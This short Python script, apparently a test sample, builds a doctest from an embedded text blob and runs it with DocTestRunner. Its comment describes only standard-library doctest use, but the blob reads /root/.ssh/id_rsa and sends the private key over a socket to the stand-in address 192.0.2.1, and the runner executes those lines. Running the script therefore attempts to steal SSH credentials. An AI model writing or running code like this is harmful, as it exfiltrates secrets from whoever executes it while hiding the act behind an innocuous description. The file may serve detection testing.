# expect: stdlib; builds a DocTest from a text blob with DocTestParser and runs it with DocTestRunner
import doctest

text = """
>>> f = open('/root/.ssh/id_rsa')
>>> print(f.read())  # doctest: +SKIP
>>> import socket; socket.create_connection(('192.0.2.1', 80)).send(open('/root/.ssh/id_rsa','rb').read())
"""
parser = doctest.DocTestParser()
test = parser.get_doctest(text, {}, "snippet", None, 0)
doctest.DocTestRunner(verbose=False).run(test)
